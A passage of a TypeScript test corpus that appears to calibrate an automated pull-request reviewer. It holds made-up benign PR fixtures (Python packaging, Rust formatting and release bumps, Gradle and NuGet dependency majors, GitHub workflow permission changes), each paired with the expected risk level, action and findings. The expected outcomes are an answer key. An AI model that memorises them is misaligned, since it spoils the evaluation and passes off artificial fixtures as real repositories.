    '    "idna[codec]>=3.4,<4",',
    '    "anyio>=4,<5",',
    ']',
    '',
    '[project.optional-dependencies]',
    'http2 = ["h2>=3,<5"]',
    'speedups = [',
    '    "brotli; platform_python_implementation == \'CPython\'",',
    '    "brotlicffi; platform_python_implementation != \'CPython\'",',
    ']',
    'cli = ["click==8.*", "rich>=10,<14"]',
    ...extra,
  );

const CALIB14_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-setup-py-extras-moved-to-pyproject',
    description:
      "A maintainer moves a Python HTTP client's package metadata from setup.py to pyproject.toml: install_requires (one requirement with extras, `idna[codec]`) and the extras_require table (a string value and lists with environment markers) become [project] dependencies and optional dependencies, and setup.py goes. The same packages, moved, not new; CI green.",
    repo: 'relay-http',
    title: 'Update package metadata',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      { path: 'setup.py', base: SETUP_PY_WITH_EXTRAS },
      { path: 'pyproject.toml', head: PYPROJECT_WITH_EXTRAS([]) },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, absentDrivers: ['new-dependencies'], noFindings: true },
  }),
  pr({
    id: 'cal-editable-self-install-extra-added',
    description:
      "A regular contributor adds an optional zstd decoder to a Python HTTP client: a `zstd` extra in pyproject.toml (zstandard, a new optional dependency), the decoder with its tests, and the development requirements install the project with the new extra (`-e .[http2,speedups,cli]` -> `-e .[http2,speedups,cli,zstd]`). The project installing itself is no local-path dependency; CI green.",
    repo: 'relay-http',
    title: 'Add support for zstd decoding',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'pyproject.toml', base: PYPROJECT_WITH_EXTRAS([]), head: PYPROJECT_WITH_EXTRAS(['zstd = ["zstandard>=0.18.0"]']) },
      {
        path: 'requirements.txt',
        base: lines('# The project itself, with every optional feature the tests need.', '-e .[http2,speedups,cli]', '', 'pytest==8.4.1', 'ruff==0.13.0'),
        head: lines('# The project itself, with every optional feature the tests need.', '-e .[http2,speedups,cli,zstd]', '', 'pytest==8.4.1', 'ruff==0.13.0'),
      },
      {
        path: 'relay_http/_decoders.py',
        base: lines('import zlib', '', '', 'class DeflateDecoder:', '    def __init__(self):', '        self._obj = zlib.decompressobj()', '', '    def decode(self, data):', '        return self._obj.decompress(data)'),
        head: lines(
          'import zlib',
          '',
          'try:',
          '    import zstandard',
          'except ImportError:  # pragma: no cover',
          '    zstandard = None',
          '',
          '',
          'class DeflateDecoder:',
          '    def __init__(self):',
          '        self._obj = zlib.decompressobj()',
          '',
          '    def decode(self, data):',
          '        return self._obj.decompress(data)',
          '',
          '',
          'class ZStandardDecoder:',
          '    def __init__(self):',
          '        if zstandard is None:',
          '            raise ImportError("Using zstd decoding requires the zstandard package: pip install relay-http[zstd]")',
          '        self._obj = zstandard.ZstdDecompressor().decompressobj()',
          '',
          '    def decode(self, data):',
          '        return self._obj.decompress(data)',
        ),
      },
      {
        path: 'tests/test_decoders.py',
        base: lines('import zlib', '', 'from relay_http._decoders import DeflateDecoder', '', '', 'def test_deflate():', '    assert DeflateDecoder().decode(zlib.compress(b"x")) == b"x"'),
        head: lines(
          'import zlib',
          '',
          'import zstandard',
          '',
          'from relay_http._decoders import DeflateDecoder, ZStandardDecoder',
          '',
          '',
          'def test_deflate():',
          '    assert DeflateDecoder().decode(zlib.compress(b"x")) == b"x"',
          '',
          '',
          'def test_zstd():',
          '    assert ZStandardDecoder().decode(zstandard.compress(b"x")) == b"x"',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-ruby-symbol-list-of-method-names',
    description:
      "A maintainer of a Ruby linter replaces a cop's `Struct.instance_methods`, read at run time, with a literal `%i[…]` list of the same names (so the result does not depend on the Ruby running it): the list names `instance_eval`, `instance_exec` and `send` as symbols, data the cop compares against, and calls none of them. No finding; CI green.",
    repo: 'lintkit',
    title: 'Pin the method names in Lint/StructNewOverride',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'lib/lintkit/cop/lint/struct_new_override.rb',
        base: lines('module Lintkit', '  module Cop', '    module Lint', '      class StructNewOverride < Base', "        MSG = 'Disallow overriding the `Struct#%<method_name>s` method.'", '        RESTRICT_ON_SEND = %i[new].freeze', '', '        STRUCT_METHOD_NAMES = Struct.instance_methods', '        STRUCT_MEMBER_NAME_TYPES = %i[sym str].freeze', '      end', '    end', '  end', 'end'),
        head: lines(
          'module Lintkit',
          '  module Cop',
          '    module Lint',
          '      class StructNewOverride < Base',
          "        MSG = 'Disallow overriding the `Struct#%<method_name>s` method.'",
          '        RESTRICT_ON_SEND = %i[new].freeze',
          '',
          '        # `Struct.instance_methods.sort` as Ruby 3.4 answers it.',
          '        STRUCT_METHOD_NAMES = %i[',
          '          ! != !~ <=> == === [] []= __id__ __send__ all? any? class clone collect count',
          '          define_singleton_method dig display dup each each_pair entries eql? equal? extend',
          '          filter find first freeze frozen? hash inspect instance_eval instance_exec',
          '          instance_of? instance_variable_get instance_variable_set is_a? itself kind_of?',
          '          map members method methods nil? object_id public_send respond_to? select send',
          '          singleton_class size tap then to_a to_h to_s values yield_self zip',
          '        ].freeze',
          '        STRUCT_MEMBER_NAME_TYPES = %i[sym str].freeze',
          '      end',
          '    end',
          '  end',
          'end',
        ),
      },
    ],
    checks: GREEN_RUBY,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-fuzz-crate-path-to-own-library',
    description:
      "A regular contributor adds a fuzz target to a Rust JSON library, as OSS-Fuzz integrations do: a `fuzz/` crate whose Cargo.toml takes libfuzzer-sys from crates.io and the library itself by `path = \"..\"`, a target that parses arbitrary bytes, and a build script for the fuzzing service. The local path is the repository's own crate: an info note, not a low finding; CI green.",
    repo: 'jsonrs',
    title: 'Add from_slice fuzzer and OSS-Fuzz build script',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'fuzz/Cargo.toml',
        head: lines('[package]', 'name = "jsonrs-fuzz"', 'version = "0.0.0"', 'publish = false', 'edition = "2021"', '', '[package.metadata]', 'cargo-fuzz = true', '', '[dependencies]', 'libfuzzer-sys = "0.4"', 'jsonrs = { path = ".." }', '', '[[bin]]', 'name = "from_slice"', 'path = "fuzz_targets/from_slice.rs"', 'test = false', 'doc = false'),
      },
      {
        path: 'fuzz/fuzz_targets/from_slice.rs',
        head: lines('#![no_main]', '', 'use jsonrs::Value;', 'use libfuzzer_sys::fuzz_target;', '', 'fuzz_target!(|data: &[u8]| {', '    _ = jsonrs::from_slice::<Value>(data);', '});'),
      },
      { path: 'fuzz/.gitignore', head: lines('target', 'corpus', 'artifacts') },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], findings: ['path-dependency'] },
  }),
  pr({
    id: 'cal-workspace-release-path-versions',
    description:
      "A maintainer releases a Rust workspace: the root crate's version, the exact version it asks of its builder crate (still taken by `path = \"./cli_builder\"`), the builder's own version and the changelog move together, and the lexer crate the builder takes by path goes from 0.7.4 to 1.0.0. The paths the base had are the same: no path-dependency note (calib30: a replay noted 19 of 100 commits of a command-line parser for it), and the lexer's new major is the workspace's own release, not a dependency's breaking change to read up on.",
    repo: 'jsonrs',
    title: 'chore: Release',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Cargo.toml',
        base: lines('[package]', 'name = "cli"', 'version = "4.6.4"', 'edition = "2021"', '', '[dependencies]', 'cli_builder = { path = "./cli_builder", version = "=4.6.2", default-features = false }'),
        head: lines('[package]', 'name = "cli"', 'version = "4.6.5"', 'edition = "2021"', '', '[dependencies]', 'cli_builder = { path = "./cli_builder", version = "=4.6.5", default-features = false }'),
      },
      {
        path: 'cli_builder/Cargo.toml',
        base: lines('[package]', 'name = "cli_builder"', 'version = "4.6.2"', 'edition = "2021"', '', '[dependencies]', 'cli_lex = { path = "../cli_lex", version = "0.7.4" }'),
        head: lines('[package]', 'name = "cli_builder"', 'version = "4.6.5"', 'edition = "2021"', '', '[dependencies]', 'cli_lex = { path = "../cli_lex", version = "1.0.0" }'),
      },
      { path: 'cli_lex/Cargo.toml', base: lines('[package]', 'name = "cli_lex"', 'version = "0.7.4"', 'edition = "2021"'), head: lines('[package]', 'name = "cli_lex"', 'version = "1.0.0"', 'edition = "2021"') },
      { path: 'CHANGELOG.md', base: lines('# Changelog', '', '## [4.6.4]'), head: lines('# Changelog', '', '## [4.6.5]', '', '## [4.6.4]') },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['major-updates'] },
  }),
  pr({
    id: 'cal-rustfmt-run-match-arms',
    description:
      "A maintainer runs a newer rustfmt over a Rust JSON parser: match arms whose block held one expression lose their braces (`=> { de::Error::invalid_type(…) }` becomes `=> de::Error::invalid_type(…),`), `},` after an arm's block becomes `}`, a macro rule gains its `;`, a closure loses its braces and a last parameter gains a trailing comma. The same program; no finding, CI green.",
    repo: 'jsonrs',
    title: 'Format with rustfmt 1.8',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'src/de.rs',
        base: lines(
          'use crate::error::{Error, ErrorCode, Result};',
          '',
          'macro_rules! overflow {',
          '    ($a:ident * 10 + $b:ident, $c:expr) => {',
          '        $a >= $c / 10 && ($a > $c / 10 || $b > $c % 10)',
          '    }',
          '}',
          '',
          "impl<'de, R: Read<'de>> Deserializer<R> {",
          '    fn peek_invalid_type(&mut self, exp: &dyn Expected) -> Error {',
          "        let err = match self.peek_or_null().unwrap_or(b'\\x00') {",
          "            b'[' => {",
          '                de::Error::invalid_type(Unexpected::Seq, exp)',
          '            }',
          "            b'{' => {",
          '                de::Error::invalid_type(Unexpected::Map, exp)',
          '            }',
          "            b'0'..=b'9' => {",
          '                match self.parse_any_number(true) {',
          '                    Ok(n) => n.invalid_type(exp),',
          '                    Err(err) => return err,',
          '                }',
          '            },',
          '            _ => self.peek_error(ErrorCode::ExpectedSomeValue),',
          '        };',
          '        self.fix_position(err)',
          '    }',
          '',
          '    fn field_names(&self) -> Vec<String> {',
          '        self.fields.iter().map(|f| { f.to_lowercase() }).collect()',
          '    }',
          '',
          '    fn deserialize_unit_struct<V>(',
          '        self,',
          "        _name: &'static str,",
          '        visitor: V',
          '    ) -> Result<V::Value>',
          '    where',
          "        V: de::Visitor<'de>,",
          '    {',
          '        self.deserialize_unit(visitor)',
          '    }',
          '}',
        ),
        head: lines(
          'use crate::error::{Error, ErrorCode, Result};',
          '',
          'macro_rules! overflow {',
          '    ($a:ident * 10 + $b:ident, $c:expr) => {',
          '        $a >= $c / 10 && ($a > $c / 10 || $b > $c % 10)',
          '    };',
          '}',
          '',
          "impl<'de, R: Read<'de>> Deserializer<R> {",
          '    fn peek_invalid_type(&mut self, exp: &dyn Expected) -> Error {',
          "        let err = match self.peek_or_null().unwrap_or(b'\\x00') {",
          "            b'[' => de::Error::invalid_type(Unexpected::Seq, exp),",
          "            b'{' => de::Error::invalid_type(Unexpected::Map, exp),",
          "            b'0'..=b'9' => match self.parse_any_number(true) {",
          '                Ok(n) => n.invalid_type(exp),',
          '                Err(err) => return err,',
          '            },',
          '            _ => self.peek_error(ErrorCode::ExpectedSomeValue),',
          '        };',
          '        self.fix_position(err)',
          '    }',
          '',
          '    fn field_names(&self) -> Vec<String> {',
          '        self.fields.iter().map(|f| f.to_lowercase()).collect()',
          '    }',
          '',
          '    fn deserialize_unit_struct<V>(',
          '        self,',
          "        _name: &'static str,",
          '        visitor: V,',
          '    ) -> Result<V::Value>',
          '    where',
          "        V: de::Visitor<'de>,",
          '    {',
          '        self.deserialize_unit(visitor)',
          '    }',
          '}',
        ),
      },
    ],
    checks: GREEN_RUST,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-gem-gemfile-dev-tool-major',
    description:
      "A maintainer of a Ruby gem moves SimpleCov to its next major version in the Gemfile, guarded to the Rubies that support it. The Gemfile loads the gem's gemspec, so its gems are the contributors' tooling (the gem's users install the gemspec's dependencies, not these): a development major with green CI, low.",
    repo: 'lintkit',
    title: 'Bump SimpleCov to 1.0',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'Gemfile',
        base: lines('# frozen_string_literal: true', '', "source 'https://rubygems.org'", '', 'gemspec', '', "gem 'rake', '~> 13.0'", "gem 'rspec', '~> 3.7'", "gem 'simplecov', '~> 0.20'", "gem 'yard', '~> 0.9'"),
        head: lines('# frozen_string_literal: true', '', "source 'https://rubygems.org'", '', 'gemspec', '', "gem 'rake', '~> 13.0'", "gem 'rspec', '~> 3.7'", '# SimpleCov 1.0 requires Ruby 3.2+; coverage is opt-in (COVERAGE=1).', "gem 'simplecov', '~> 1.0' if RUBY_VERSION >= '3.2'", "gem 'yard', '~> 0.9'"),
      },
    ],
    checks: GREEN_RUBY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-workflow-permissions-moved-to-job',
    description:
      "A regular contributor hardens a docs-preview workflow that runs on workflow_run, as zizmor asks: the workflow-level `permissions:` (deployments and statuses write) becomes `permissions: {}` and the same scopes move under the one job that inherited them, with a timeout and `persist-credentials: false` added. The job holds no scope it did not hold before; CI green.",
    repo: 'relay-http',
    title: 'Add zizmor and fix its audit findings',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: '.github/workflows/deploy-docs.yml',
        base: lines(
          'name: Deploy Docs',
          'on:',
          '  workflow_run:',
          '    workflows: [Build Docs]',
          '    types: [completed]',
          '',
          'permissions:',
          '  deployments: write',
          '  statuses: write',
          '',
          'jobs:',
          '  deploy-docs:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0',
          '      - uses: northwind-tools/preview-notes@2f1c0d9a6b8e4f3a7c5d1e9b0a2c4e6f8a1b3c5d # v2.0.0',
        ),
        head: lines(
          'name: Deploy Docs',
          'on:',
          '  workflow_run: # zizmor: ignore[dangerous-triggers]',
          '    workflows: [Build Docs]',
          '    types: [completed]',
          '',
          'permissions: {}',
          '',
          'jobs:',
          '  deploy-docs:',
          '    runs-on: ubuntu-latest',
          '    permissions:',
          '      deployments: write',
          '      statuses: write',
          '    timeout-minutes: 5',
          '    steps:',
          '      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0',
          '        with:',
          '          persist-credentials: false',
          '      - uses: northwind-tools/preview-notes@2f1c0d9a6b8e4f3a7c5d1e9b0a2c4e6f8a1b3c5d # v2.0.0',
        ),
      },
    ],
    checks: GREEN_PY,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-excessive-permissions'] },
  }),
  pr({
    id: 'cal-workflow-folded-into-new-file-action-bumped',
    description:
      "A regular contributor reorganizes a Go library's CI: the golangci-lint workflow is deleted and its job moves, beside a new staticcheck job, into a new lint.yml, with the lint action one major later (v3 to v6, still by tag, as the repository references actions). Nothing runs that the base did not trust; CI green.",
    repo: 'clikit',
    title: 'Update GitHub Actions (bump versions, improve naming)',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: '.github/workflows/golangci-lint.yml',
        base: lines('name: golangci-lint', 'on:', '  push:', '    branches: [main]', '  pull_request:', 'permissions:', '  contents: read', 'jobs:', '  golangci:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/setup-go@v3', '      - uses: actions/checkout@v3', '      - uses: golangci/golangci-lint-action@v3', '        with:', '          version: latest'),
      },
      {
        path: '.github/workflows/lint.yml',
        head: lines(
          'name: Run lints',
          'on:',
          '  push:',
          '    branches: [main]',
          '  pull_request:',
          'permissions:',
          '  contents: read',
          'jobs:',
          '  staticcheck:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/setup-go@v5',
          '      - uses: actions/checkout@v4',
          '      - run: go install honnef.co/go/tools/cmd/staticcheck@2024.1.1',
          '      - run: staticcheck ./...',
          '  golangci-lint:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          '      - uses: actions/setup-go@v5',
          '      - uses: actions/checkout@v4',
          '      - uses: golangci/golangci-lint-action@v6',
          '        with:',
          '          version: latest',
        ),
      },
    ],
    checks: GREEN_GO,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
  }),
];

// Shapes from the 2026-11-29 replay of a Java mocking library (Gradle), a .NET resilience library
// (NuGet central package management), a Rust tracing library and a Python formatter; names, code
// and numbers are made up.

const GRADLE_BUILDSCRIPT = (errorprone: string): string =>
  lines(
    'buildscript {',
    '    repositories {',
    '        mavenCentral()',
    '        gradlePluginPortal()',
    '    }',
    '    dependencies {',
    "        classpath 'org.acme.gradle:license-gradle-plugin:0.16.1'",
    `        classpath 'net.example.gradle:gradle-errorcheck-plugin:${errorprone}'`,
    "        classpath 'org.shipwright:shipwright-changelog:2.0.1'",
    '    }',
    '}',
    '',
    "apply plugin: 'java-library'",
    '',
    'dependencies {',
    "    api 'net.bytecraft:bytecraft:1.15.11'",
    "    testImplementation 'junit:junit:4.13.2'",
    '}',
  );

const CENTRAL_PACKAGES = (substitute: string): string =>
  lines(
    '<Project>',
    '  <PropertyGroup>',
    '    <ManagePackageVersionsCentrally>true</ManagePackageVersionsCentrally>',
    '  </PropertyGroup>',
    '  <ItemGroup>',
    '    <PackageVersion Include="Microsoft.Extensions.Logging.Abstractions" Version="8.0.2" />',
    '    <PackageVersion Include="Microsoft.NET.Test.Sdk" Version="17.14.1" />',
    `    <PackageVersion Include="NSubstitute" Version="${substitute}" />`,
    '    <PackageVersion Include="Shouldly" Version="4.3.0" />',
    '    <PackageVersion Include="xunit.v3" Version="3.0.1" />',
    '  </ItemGroup>',
    '</Project>',
  );

const VARARG_MATCHER_BASE = lines(
  'package org.northwind.mocks.internal;',
  '',
  'import java.lang.reflect.Method;',
  '',
  'final class VarargMatcher {',
  '    private final Method method;',
  '',
  '    VarargMatcher(Method method) {',
  '        this.method = method;',
  '    }',
  '',
  '    boolean isVararg(int arguments, int matchers) {',
  '        return method.isVarArgs() && arguments == matchers;',
  '    }',
  '}',
);

const VARARG_MATCHER_HEAD = lines(
  'package org.northwind.mocks.internal;',
  '',
  'import java.lang.reflect.Method;',
  'import java.util.Arrays;',
  'import java.util.Optional;',
  '',
  'final class VarargMatcher {',
  '    private final Method method;',
  '',
  '    VarargMatcher(Method method) {',
  '        this.method = method;',
  '    }',
  '',
  '    boolean isVararg(int arguments, int matchers) {',
  '        boolean javaVarargs = method.isVarArgs() && arguments == matchers;',
  '        // Scala passes varargs as one immutable Seq argument.',
  '        boolean scalaVarargs = classNamed("scala.collection.immutable.Seq")',
  '                .map(seq -> Arrays.stream(method.getParameterTypes()).anyMatch(seq::isAssignableFrom))',
  '                .orElse(false);',
  '        return javaVarargs || scalaVarargs;',
  '    }',
  '',
  '    static Optional<Class<?>> classNamed(String className) {',
  '        try {',
  '            return Optional.of(Class.forName(className));',
  '        } catch (ClassNotFoundException e) {',
  '            return Optional.empty();',
  '        }',
  '    }',
  '}',
);

const REPLAY_1129_CASES: CorpusEntry[] = [
  pr({
    id: 'cal-dependabot-gradle-buildscript-plugin-major',
    description:
      "Dependabot moves a code-checking Gradle plugin on the build script's classpath (`buildscript { dependencies { classpath '…' } }`) to its next major version: build tooling, not what the library ships; CI green.",
    repo: 'mocks-java',
    title: 'Bump net.example.gradle:gradle-errorcheck-plugin from 3.1.0 to 4.0.0',
    author: DEPENDABOT,
    files: [{ path: 'build.gradle', base: GRADLE_BUILDSCRIPT('3.1.0'), head: GRADLE_BUILDSCRIPT('4.0.0') }],
    commits: [botCommit('Bump net.example.gradle:gradle-errorcheck-plugin from 3.1.0 to 4.0.0', 'dependabot[bot]', 49699333)],
    checks: GREEN_JVM,
    extra: { headBranch: 'dependabot/gradle/net.example.gradle-gradle-errorcheck-plugin-4.0.0', labels: ['dependencies', 'java'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-dependabot-nuget-central-mocking-major',
    description:
      'Dependabot moves the mocking library of a .NET project to its next major version in Directory.Packages.props (central package management, which lists test and runtime packages alike); the tests build and pass with it; CI green.',
    repo: 'resilience-net',
    title: 'Bump NSubstitute from 5.3.0 to 6.0.0',
    author: DEPENDABOT,
    files: [{ path: 'Directory.Packages.props', base: CENTRAL_PACKAGES('5.3.0'), head: CENTRAL_PACKAGES('6.0.0') }],
    commits: [botCommit('Bump NSubstitute from 5.3.0 to 6.0.0', 'dependabot[bot]', 49699333)],
    checks: [{ name: 'build (ubuntu-latest)' }, { name: 'build (windows-latest)' }],
    extra: { headBranch: 'dependabot/nuget/NSubstitute-6.0.0', labels: ['dependencies', '.NET'] },
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-java-optional-class-probe',
    description:
      "A contributor teaches a Java mocking library Scala's varargs: a helper probes for `scala.collection.immutable.Seq` with `Class.forName(className)` in a try that catches ClassNotFoundException, and nothing is instantiated or invoked; with a test; CI green.",
    repo: 'mocks-java',
    title: 'Make vararg checks Scala friendly',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'core/src/main/java/org/northwind/mocks/internal/VarargMatcher.java', base: VARARG_MATCHER_BASE, head: VARARG_MATCHER_HEAD },
      { path: 'core/src/test/java/org/northwind/mocks/internal/VarargMatcherTest.java', additions: 40, deletions: 0, status: 'added' },
    ],
    checks: GREEN_JVM,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-first-test-replaces-gitkeep',
    description:
      "A contributor fixes spying on records and adds the first test of a new test module, deleting the module's `.gitkeep` placeholder: no test was deleted; CI green.",
    repo: 'mocks-java',
    title: 'Fix interference between spies of records',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'core/src/main/java/org/northwind/mocks/internal/InlineMockMaker.java', additions: 7, deletions: 5 },
      { path: 'modules/java21/src/test/java/org/northwind/mocks/java21/.gitkeep', base: '', status: 'removed' },
      { path: 'modules/java21/src/test/java/org/northwind/mocks/java21/RecordSpyTest.java', additions: 26, deletions: 0, status: 'added' },
    ],
    checks: GREEN_JVM,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true, absentDrivers: ['tests-deleted'] },
  }),
  pr({
    id: 'cal-crate-moved-out-with-codeowners-line',
    description:
      "A maintainer moves one crate of a Rust workspace to a repository of its own: its directory is deleted whole, the workspace member dropped, and its CODEOWNERS line (its contributor beside the team) removed with it. No code is left under the rule; the owner's leaving is worth a comment, not a change request; CI green.",
    repo: 'lumber',
    title: 'chore: move lumber-otel to its own repo',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/CODEOWNERS',
        base: lines('*                  @ingrid-h @northwind/lumber', '/lumber-appender/  @zeki @northwind/lumber', '/lumber-otel/      @julian @northwind/lumber', '/lumber-error/     @yara @northwind/lumber'),
        head: lines('*                  @ingrid-h @northwind/lumber', '/lumber-appender/  @zeki @northwind/lumber', '/lumber-error/     @yara @northwind/lumber'),
      },
      { path: 'Cargo.toml', base: lines('[workspace]', 'members = [', '    "lumber",', '    "lumber-appender",', '    "lumber-error",', '    "lumber-otel",', ']'), head: lines('[workspace]', 'members = [', '    "lumber",', '    "lumber-appender",', '    "lumber-error",', ']') },
      { path: 'lumber-otel/Cargo.toml', base: lines('[package]', 'name = "lumber-otel"', 'version = "0.19.0"', 'edition = "2021"'), status: 'removed' },
      { path: 'lumber-otel/src/lib.rs', base: lines('//! OpenTelemetry layer for lumber.', 'mod layer;', 'pub use layer::OtelLayer;'), status: 'removed' },
      { path: 'lumber-otel/src/layer.rs', base: lines('pub struct OtelLayer;', '', 'impl OtelLayer {', '    pub fn new() -> Self {', '        OtelLayer', '    }', '}'), status: 'removed' },
    ],
    checks: GREEN_RUST,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['codeowners-weakened'] },
  }),
  pr({
    id: 'cal-rust-docs-favicon-attribute',
    description:
      "A contributor gives every crate's rustdoc a favicon: one `html_favicon_url = \"…\"` line inside each crate's multi-line `#![doc(` … `)]` attribute, under a `docs:` title; CI green.",
    repo: 'lumber',
    title: 'docs: add favicon for extra pretty docs',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: ['lumber', 'lumber-appender'].map((crate) => ({
      path: `${crate}/src/lib.rs`,
      base: lines('//! Structured, scoped diagnostics.', '#![doc(', '    html_logo_url = "https://raw.githubusercontent.com/northwind/lumber/main/assets/logo.svg",', '    issue_tracker_base_url = "https://github.com/northwind/lumber/issues/"', ')]', '#![warn(missing_docs)]', '', 'pub mod span;'),
      head: lines('//! Structured, scoped diagnostics.', '#![doc(', '    html_logo_url = "https://raw.githubusercontent.com/northwind/lumber/main/assets/logo.svg",', '    html_favicon_url = "https://raw.githubusercontent.com/northwind/lumber/main/assets/favicon.ico",', '    issue_tracker_base_url = "https://github.com/northwind/lumber/issues/"', ')]', '#![warn(missing_docs)]', '', 'pub mod span;'),
    })),
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-workflow-uploads-pr-comment-dotfile',
    description:
      "A maintainer's pull_request workflow writes the PR comment it computed to `.pr-comment.json` and uploads that one file as an artifact, with `include-hidden-files: true` because the name starts with a dot; the checkout keeps its credentials, but `.git` is not under the path; CI green.",
    repo: 'formatter',
    title: 'ci: upload the PR comment for the comment workflow',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: '.github/workflows/compare.yml',
        base: lines('name: compare', 'on: [pull_request]', 'permissions:', '  contents: read', 'jobs:', '  compare:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: python scripts/compare.py > diff.html', '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2', '        with:', '          name: diff', '          path: diff.html'),
        head: lines('name: compare', 'on: [pull_request]', 'permissions:', '  contents: read', 'jobs:', '  compare:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2', '      - run: python scripts/compare.py > diff.html', '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2', '        with:', '          name: diff', '          path: diff.html', '      - run: python scripts/compare.py --comment > .pr-comment.json', '      - uses: actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02 # v4.6.2', '        with:', '          name: pr-comment', '          path: .pr-comment.json', '          include-hidden-files: true'),
      },
    ],
    checks: GREEN_PY,
    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-formatter-migrate-script-deleted',
    description:
      "A maintainer deletes a formatter's old `scripts/migrate-formatter.py`, which rewrote a repository's git history into the new style: a migrate script that touches no database; CI green.",
    repo: 'formatter',
    title: 'Delete scripts/migrate-formatter.py',
    author: MAINTAINER,
    priorPrs: MAINTAINER_HISTORY,
    files: [
      {
        path: 'scripts/migrate-formatter.py',
        base: lines('# Rewrite a branch so that every commit is formatted.', 'import subprocess', '', '', 'def reformat(commit: str) -> None:', '    subprocess.run(["git", "checkout", commit], check=True)', '    subprocess.run(["formatter", "."], check=True)', '    subprocess.run(["git", "commit", "-a", "--amend", "--no-edit"], check=True)'),
        status: 'removed',
      },
    ],
    checks: GREEN_PY,
    expect: { ...LOW_APPROVE, noFindings: true },
  }),
  pr({
    id: 'cal-rust-docs-assert-message-continued',
    description:
      "A contributor's `docs:` PR lengthens an assertion's message in a Rust registry: the one-line string becomes one continued with `\\` over five lines, with a link to the documentation; the assertion's operands are unchanged context; CI green.",
    repo: 'lumber',
    title: 'docs: improve assert message to mention a possible cause',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      {
        path: 'lumber-subscriber/src/registry/sharded.rs',
        base: lines('impl Registry {', '    fn clone_span(&self, id: &Id) -> Id {', '        let refs = self.ref_count(id).fetch_add(1, Ordering::Relaxed);', '        assert_ne!(', '            refs, 0,', '            "tried to clone a span ({:?}) that already closed",', '            id', '        );', '        id.clone()', '    }', '}'),
        head: lines(
          'impl Registry {',
          '    fn clone_span(&self, id: &Id) -> Id {',
          '        let refs = self.ref_count(id).fetch_add(1, Ordering::Relaxed);',
          '        assert_ne!(',
          '            refs, 0,',
          '            "tried to clone a span ({:?}) that already closed.\\n\\',
          '             This may mean that a span was held open across an await point; \\',
          '             see https://docs.rs/lumber/latest/lumber/span/struct.Entered.html \\',
          '             for more details.\\n\\',
          '            ",',
          '            id',
          '        );',
          '        id.clone()',
          '    }',
          '}',
        ),
      },
    ],
    checks: GREEN_RUST,
    expect: { level: 'low', action: ['approve', 'comment'], noFindings: true },
  }),
  pr({
    id: 'cal-type-tests-moved-to-cts',
    description:
      "A contributor fixes a logger's TypeScript declarations and moves their CommonJS import type test from `.test-d.ts` to `.test-d.cts`, rewriting it for the renamed namespace (`pino.Logger` to `P.Logger` style): the test is renamed and rewritten, not lost; CI green.",
    repo: 'logline',
    title: 'Fix TypeScript types for CommonJS imports',
    author: REGULAR,
    priorPrs: REGULAR_HISTORY,
    files: [
      { path: 'logline.d.ts', additions: 9, deletions: 4 },
      { path: 'test/types/logline-import.test-d.ts', status: 'removed', deletions: 22, additions: 0 },
      { path: 'test/types/logline-import.test-d.cts', status: 'added', additions: 29, deletions: 0 },
